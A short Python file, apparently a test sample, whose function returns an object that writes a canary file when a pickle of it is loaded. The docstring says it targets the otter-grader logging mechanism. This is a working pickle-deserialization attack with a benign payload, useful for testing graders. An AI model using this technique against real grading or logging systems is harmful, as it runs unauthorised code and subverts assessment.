"""Answers with an object that, where it is unpickled, does what it likes.

aim: harm
known: otter https://otter-grader.readthedocs.io/en/stable/logging.html
"""

from pathlib import Path


class Surprise:
    def __reduce__(self):
        return Path.write_text, (Path("@CANARY@"), "I have been here")


def double(x):
    return Surprise()
